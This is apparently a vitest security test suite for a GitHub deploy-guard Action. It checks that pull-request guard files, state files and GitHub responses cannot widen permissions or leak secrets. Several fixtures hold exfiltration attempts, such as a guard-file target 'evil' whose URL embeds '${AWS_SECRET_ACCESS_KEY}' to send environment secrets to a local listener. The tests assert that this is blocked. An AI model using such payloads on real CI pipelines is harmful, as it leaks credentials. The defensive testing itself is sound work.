import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { MongoClient } from 'mongodb';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, test } from 'vitest';
import type { Report } from '../../src/report/schema.ts';
import { TOKEN as GITHUB_TOKEN, startIssueServer } from '../integration/alert/issue-server.ts';
import { type ActionOptions, type ActionResult, runAction } from '../support/action.ts';
import { freshDatabaseName } from '../support/mongo.ts';
import { startMongoProxy } from '../support/mongo-proxy.ts';

/** What is not trusted (a pull request, its guard file, what a service answers) widens nothing, on the shipped bundle. */

interface Asked {
  readonly method: string | undefined;
  readonly headers: IncomingMessage['headers'];
  /** Request line, headers and body as one text. */
  readonly text: string;
}

/** A server of somebody else, which writes down everything that it is sent. */
async function startListener(): Promise<{ url: string; asked: Asked[]; close(): Promise<void> }> {
  const asked: Asked[] = [];
  const server: Server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += String(chunk);
    const text = `${request.method} ${decodeURIComponent(request.url ?? '')} ${JSON.stringify(request.headers)} ${body}`;
    asked.push({ method: request.method, headers: request.headers, text });
    response.setHeader('content-type', 'application/json').end('{"status":"healthy","version":"1"}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    asked,
    async close() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

let folder = '';
let listener: Awaited<ReturnType<typeof startListener>>;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'trust-test-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));
beforeEach(async () => {
  listener = await startListener();
});
afterEach(() => listener.close());

const guardFile = async (text: string): Promise<string> => {
  const workspace = await mkdtemp(join(folder, 'workspace-'));
  await mkdir(join(workspace, '.github'));
  await writeFile(join(workspace, '.github', 'deploy-guard.yml'), text);
  return workspace;
};

const PULL_REQUEST = {
  name: 'pull_request',
  ref: 'refs/pull/7/merge',
  payload: { pull_request: { number: 7 } },
};
const QUICK = { mode: 'verify', interval: '1ms', samples: 1, warmup: 0, 'wait-timeout': '1s' };

const everythingOf = (run: ActionResult): string =>
  [
    run.stdout.replace(/^::add-mask::.*$/gm, ''),
    run.stderr,
    run.summary,
    JSON.stringify(run.report ?? ''),
  ].join('\n');

describe('code that is not merged writes nothing', () => {
  const database = freshDatabaseName();
  let client: MongoClient;
  beforeAll(async () => {
    client = await new MongoClient(inject('mongoUri')).connect();
  });
  afterAll(async () => {
    await client.db(database).dropDatabase();
    await client.db(`${database}_state`).dropDatabase();
    await client.close();
  });

  const repository = { full_name: 'octo-org/shop', default_branch: 'main' };
  const events: [string, NonNullable<ActionOptions['event']>][] = [
    ['pull_request_review', { name: 'pull_request_review', payload: { pull_request: { number: 7 } } }],
    ['pull_request_review_comment', { name: 'pull_request_review_comment' }],
    [
      'issue_comment on a pull request',
      { name: 'issue_comment', payload: { issue: { number: 7, pull_request: {} } } },
    ],
    [
      'workflow_run of a pull request',
      { name: 'workflow_run', payload: { repository, workflow_run: { event: 'pull_request' } } },
    ],
    [
      'workflow_run of a fork',
      {
        name: 'workflow_run',
        payload: {
          repository,
          workflow_run: { event: 'push', head_repository: { full_name: 'mallory/shop' } },
        },
      },
    ],
    ['a push of refs/pull/7/head', { name: 'push', ref: 'refs/pull/7/head' }],
    ['workflow_dispatch on refs/pull/7/merge', { name: 'workflow_dispatch', ref: 'refs/pull/7/merge' }],
    ['an event that is not known', { name: 'brand_new_event' }],
  ];

  test.each(events)('%s: a rollback is a plan', async (_name, event) => {
    const orders = client.db(database).collection('orders');
    await orders.deleteMany({});
    await orders.insertMany([1, 2, 3].map((n) => ({ n, subscription_id: `s${n}` })));
    const proxy = await startMongoProxy(inject('mongoUri'));
    const run = await runAction({
      inputs: {
        mode: 'rollback',
        operation: 'apply',
        steps: '19',
        'mongodb-uri': proxy.uri,
        'mongodb-database': database,
        'state-database': `${database}_state`,
        'required-permission': 'none',
      },
      event,
    });
    await proxy.close();
    expect(run.outputs, run.stdout).toMatchObject({ 'dry-run': 'true', 'operation-state': 'planned' });
    expect(proxy.writes()).toEqual([]);
    expect(await orders.countDocuments({ subscription_id: { $exists: true } })).toBe(3);
  });

  test.each(events)('%s: dry-run false is refused before anything is sent', async (_name, event) => {
    const run = await runAction({
      inputs: { ...QUICK, targets: `api=${listener.url}/`, 'dry-run': 'false' },
      event,
    });
    expect(run.exitCode).toBe(1);
    expect(run.stdout).toContain('dry-run: is false, but the');
    expect(listener.asked).toEqual([]);
  });

  test('a push to the default branch is no dry run, so that the tests above can fail', async () => {
    const run = await runAction({ inputs: { ...QUICK, targets: `api=${listener.url}/` } });
    expect(run.outputs['dry-run']).toBe('false');
  });
});

describe('the guard file of a pull request', () => {
  const SECRET = 'wJalrXUtnFEMI-K7MDENG';
  const env = {
    AWS_SECRET_ACCESS_KEY: SECRET,
    ACTIONS_RUNTIME_TOKEN: SECRET,
    API_TOKEN: SECRET,
    INPUT_HEADERS: `X-Api-Key: ${SECRET}`,
  };
  const sentAway = () => listener.asked.filter(({ text }) => text.includes(SECRET));

  test.each(['AWS_SECRET_ACCESS_KEY', 'ACTIONS_RUNTIME_TOKEN', 'INPUT_HEADERS', 'API_TOKEN'])(
    'expands no variable, not even one that an input names: %s',
    async (name) => {
      const cwd = await guardFile(`targets:\n  - evil=${listener.url}/?leak=\${${name}}\n`);
      const run = await runAction({
        inputs: { ...QUICK, 'guard-file-env': 'API_TOKEN' },
        env,
        cwd,
        event: PULL_REQUEST,
      });
      expect(run.exitCode).toBe(1);
      expect(run.stdout).toContain(name);
      expect(listener.asked).toEqual([]);
      expect(everythingOf(run)).not.toContain(SECRET);
    },
  );

  test.each(['AWS_SECRET_ACCESS_KEY', 'ACTIONS_RUNTIME_TOKEN'])(
    'on merged code too, expands only what guard-file-env names: %s',
    async (name) => {
      const cwd = await guardFile(`targets:\n  - api=${listener.url}/?key=\${${name}}\n`);
      const run = await runAction({ inputs: QUICK, env, cwd });
      expect(run.exitCode).toBe(1);
      expect(run.stdout).toContain('guard-file-env');
      expect(listener.asked).toEqual([]);
    },
  );

  test.each(['ACTIONS_RUNTIME_TOKEN', 'GITHUB_TOKEN', 'RUNNER_TEMP', 'INPUT_HEADERS', 'input_headers'])(
    'guard-file-env may not name %s',
    async (name) => {
      const cwd = await guardFile(`targets:\n  - api=${listener.url}/?key=\${${name}}\n`);
      const run = await runAction({ inputs: { ...QUICK, 'guard-file-env': name }, env, cwd });
      expect(run.exitCode).toBe(1);
      expect(run.stdout).toContain('guard-file-env');
      expect(listener.asked).toEqual([]);
    },
  );

  test('guard-file-env lets the guard file of merged code expand a variable, which is masked', async () => {
    const cwd = await guardFile(
      `targets:\n  - name: api\n    url: ${listener.url}/\n    bearer-token: \${API_TOKEN}\n`,
    );
    const run = await runAction({ inputs: { ...QUICK, 'guard-file-env': 'API_TOKEN' }, env, cwd });
    expect(run.exitCode, run.stdout).toBe(0);
    expect(sentAway()).toHaveLength(listener.asked.length);
    expect(run.masked).toContain(SECRET);
  });

  test('gets no credentials of inputs for its own addresses', async () => {
    const cwd = await guardFile(`targets:\n  - evil=${listener.url}/\n`);
    const inputs = { ...QUICK, headers: `X-Api-Key: ${SECRET}`, 'bearer-token': SECRET };
    const run = await runAction({ inputs, cwd, event: PULL_REQUEST });
    expect(run.exitCode, run.stdout).toBe(0);
    expect(listener.asked.length).toBeGreaterThan(0);
    expect(sentAway()).toEqual([]);
    expect(run.summary).toContain('headers and bearer-token of the inputs are not sent to them');
    // Of merged code it does, so that the assertion above can fail.
    await runAction({ inputs, cwd });
    expect(sentAway().length).toBeGreaterThan(0);
  });

  test('does not keep credentials of inputs from addresses of inputs', async () => {
    const cwd = await guardFile('environment: preview\n');
    const inputs = { ...QUICK, targets: `api=${listener.url}/`, 'bearer-token': SECRET };
    await runAction({ inputs, cwd, event: PULL_REQUEST });
    expect(sentAway()).toHaveLength(listener.asked.length);
    expect(listener.asked.length).toBeGreaterThan(0);
  });

  test.each(['DELETE', 'POST', 'PUT', 'PATCH', 'OPTIONS'])('cannot send %s', async (method) => {
    const cwd = await guardFile(
      `targets:\n  - name: api\n    url: ${listener.url}/\n    method: ${method}\n`,
    );
    for (const options of [{ event: PULL_REQUEST }, { inputs: { ...QUICK, 'dry-run': 'true' } }]) {
      const run = await runAction({ inputs: QUICK, cwd, ...options });
      expect(run.exitCode).toBe(1);
      expect(run.stdout).toContain(`is ${method}, but`);
    }
    expect(listener.asked).toEqual([]);
  });

  test.each(['none', 'write', 'maintain'])('cannot lower required-permission to %s', async (permission) => {
    const cwd = await guardFile(`rollback:\n  required-permission: ${permission}\n`);
    const inputs = {
      mode: 'rollback',
      operation: 'apply',
      steps: '19',
      'mongodb-uri': inject('mongoUri'),
      'mongodb-database': 'x',
    };
    for (const event of [PULL_REQUEST, { name: 'push' }]) {
      const run = await runAction({ inputs, cwd, event });
      expect(run.exitCode).toBe(1);
      expect(run.stdout).toContain('the guard file can only raise it');
    }
  });
});

describe('a credential belongs to the origin that it was written for', () => {
  const basic = (user: string) => `Basic ${Buffer.from(user).toString('base64')}`;

  test.each(['health-base-url', 'prometheus-url'] as const)('user info of %s', async (owner) => {
    const other = await startListener();
    const withUser = listener.url.replace('http://', 'http://ops:pa55word-of-one@');
    const [health, prometheus] = owner === 'health-base-url' ? [withUser, other.url] : [other.url, withUser];
    await runAction({
      inputs: { ...QUICK, 'health-base-url': health, 'prometheus-url': `${prometheus}/metrics` },
    });
    await other.close();
    expect(listener.asked.length).toBeGreaterThan(0);
    for (const { headers } of listener.asked)
      expect(headers.authorization).toBe(basic('ops:pa55word-of-one'));
    expect(other.asked.length).toBeGreaterThan(0);
    for (const { headers } of other.asked) expect(headers.authorization).toBeUndefined();
  });
});

describe('secrets that stand in the guard file as they are', () => {
  test('are masked and shown nowhere', async () => {
    const secrets = ['hdr-91b2c4d6e8', 'tok-5f1c9d77aa', 'pa55word-of-two', 'qry-77e0aa1b2c'];
    const [header, token, password, query] = secrets;
    const url = new URL(`${listener.url}/`);
    url.username = 'me';
    url.password = password ?? '';
    url.searchParams.set('key', query ?? '');
    const cwd = await guardFile(`targets:
  - name: a
    url: ${listener.url}/
    headers: { X-Api-Key: ${header} }
  - { name: b, url: '${listener.url}/', bearer-token: ${token} }
  - c=${url.href}
  - { name: d, url: '${listener.url}/', headers: { X-Api-Key: ${header} }, timout: 1s }
`);
    const run = await runAction({ inputs: QUICK, cwd });
    for (const secret of secrets) {
      expect(run.masked).toContain(secret);
      expect(everythingOf(run)).not.toContain(secret);
    }
  });
});

describe('a state file of another environment', () => {
  const stateOf = async (environment: string): Promise<string> => {
    const path = join(await mkdtemp(join(folder, 'state-')), 'state.json');
    const run = await runAction({
      inputs: {
        ...QUICK,
        samples: 3,
        targets: `api=${listener.url}/`,
        environment,
        baseline: 'record',
        state: `file:${path}`,
      },
    });
    expect(run.exitCode, run.stdout).toBe(0);
    return path;
  };

  test('is no baseline: verify does not pass on it', async () => {
    const path = await stateOf('production-eu');
    const inputs = {
      ...QUICK,
      samples: 3,
      targets: `api=${listener.url}/`,
      environment: 'production',
      baseline: 'compare',
    };
    const run = await runAction({ inputs: { ...inputs, state: `file:${path}` } });
    expect(run.outputs.verdict).not.toBe('pass');
    expect(run.exitCode).toBe(1);
    expect(everythingOf(run)).toContain("belongs to the environment 'production-eu'");
  });

  test('is no history: the alert is sent, and the report says that it could not be deduplicated', async () => {
    const path = await stateOf('production-eu');
    const run = await runAction({
      inputs: {
        mode: 'alert',
        environment: 'production',
        'alert-type': 'high-cpu',
        title: 't',
        source: 's',
        state: `file:${path}`,
        'webhook-url': `${listener.url}/hook`,
        channels: 'webhook',
      },
    });
    expect(run.outputs['alert-status'], run.stdout).toBe('sent');
    expect(listener.asked.some(({ method }) => method === 'POST')).toBe(true);
    expect(everythingOf(run)).toContain("belongs to the environment 'production-eu'");
  });
});

describe('what GitHub answers', () => {
  const marked = { GITHUB_REPOSITORY: 'acme/shop' };

  test('the marker of another alert within an issue hides no alert', async () => {
    const github = await startIssueServer();
    const fire = () =>
      runAction({
        inputs: {
          mode: 'alert',
          'alert-type': 'high-cpu',
          title: 't',
          source: 's',
          state: 'none',
          channels: 'github-issue',
          'github-token': GITHUB_TOKEN,
        },
        env: { ...marked, GITHUB_API_URL: github.url },
      });
    await fire();
    const [issue] = github.issues;
    const [marker = ''] = issue?.body.split('\n') ?? [];
    expect(marker).toMatch(/^<!-- deploy-guard:alert:/);
    if (issue) issue.body = `<!-- deploy-guard:alert:${'0'.repeat(64)} -->\nHTTP 500 ${marker}\n${marker}`;
    const again = await fire();
    await github.close();
    expect(again.outputs['alert-status'], again.stdout).toBe('sent');
    expect(github.issues).toHaveLength(2);
    expect(issue?.comments).toEqual([]);
  });
});

describe('plans', () => {
  const database = freshDatabaseName();
  let client: MongoClient;
  beforeAll(async () => {
    client = await new MongoClient(inject('mongoUri')).connect();
    const db = client.db(database);
    await db.collection<{ _id: string }>('users').insertMany([
      {
        _id: 'ann@example.com',
        email: 'ann@example.com',
        note: 'called on Monday, wants a refund',
      } as never,
      { _id: '4111111111111111', email: 'bob@example.com', note: '4111 1111 1111 1111' } as never,
    ]);
    await db.collection('payments').insertOne({ iban: 'DE89370400440532013000', state: 'paid' });
  });
  afterAll(async () => {
    await client.db(database).dropDatabase();
    await client.db(`${database}_state`).dropDatabase();
    await client.close();
  });

  const plan = (guard: string, inputs: Record<string, string>, event?: ActionOptions['event']) =>
    guardFile(guard).then((cwd) =>
      runAction({
        inputs: {
          mode: 'rollback',
          operation: 'plan',
          'mongodb-uri': inject('mongoUri'),
          'mongodb-database': database,
          'state-database': `${database}_state`,
          'required-permission': 'none',
          ...inputs,
        },
        cwd,
        ...(event ? { event } : {}),
      }),
    );

  const ERASES = `rollback:
  overrides:
    19:
      reversals:
        - { kind: unset-fields, collection: users, fields: [email] }
`;

  test('an overridden STEP is described from what it does, with its file and commit, and is of high risk', async () => {
    const run = await plan(ERASES, { steps: '19' });
    expect(run.exitCode, run.stdout).toBe(0);
    const report = JSON.stringify(run.report);
    expect((run.report as Report).rollback?.steps[0]?.risk).toBe('high');
    expect(run.summary).toContain('users.email');
    expect(report).not.toContain('Unsets `subscription_id` on orders');
    expect(report).toContain('overridden in .github/deploy-guard.yml:3:5 at commit 6dcb09b5b578');
    const applied = await plan(ERASES, { steps: '19', operation: 'apply' });
    expect(applied.exitCode).toBe(1);
    expect(applied.stdout).toContain('confirm');
    expect(
      await client
        .db(database)
        .collection('users')
        .countDocuments({ email: { $exists: true } }),
    ).toBe(2);
  });

  test('a risk that the file states is taken', async () => {
    const run = await plan(ERASES.replace('reversals:', 'risk: critical\n      reversals:'), { steps: '19' });
    expect((run.report as Report).rollback?.steps[0]?.risk).toBe('critical');
  });

  test('samples show no personal data, neither in values nor in _id', async () => {
    const guard = `rollback:
  steps:
    - name: notes
      effect: Unsets the notes.
      risk: low
      reversals: [{ kind: unset-fields, collection: users, fields: [note] }]
`;
    const run = await plan(guard, { steps: 'notes' });
    expect(run.exitCode, run.stdout).toBe(0);
    expect(run.summary + JSON.stringify(run.report)).toContain('sample users');
    for (const text of ['ann@example.com', '4111', 'refund']) expect(everythingOf(run)).not.toContain(text);
  });

  test('the STEP of a pull request reads the collections of the built-in STEPs, unless the input names more', async () => {
    const guard = `rollback:
  steps:
    - name: payments
      effect: Unsets the state.
      risk: low
      reversals: [{ kind: unset-fields, collection: payments, fields: [iban] }]
`;
    const refused = await plan(guard, { steps: 'payments' }, PULL_REQUEST);
    expect(refused.exitCode).toBe(1);
    expect(refused.stdout).toContain("reads the collection 'payments'");
    const allowed = await plan(
      guard,
      { steps: 'payments', 'guard-file-collections': 'payments' },
      PULL_REQUEST,
    );
    expect(allowed.exitCode, allowed.stdout).toBe(0);
    expect(everythingOf(allowed)).not.toContain('DE8937');
    expect((await plan(guard, { steps: 'payments' })).exitCode).toBe(0);
  });
});
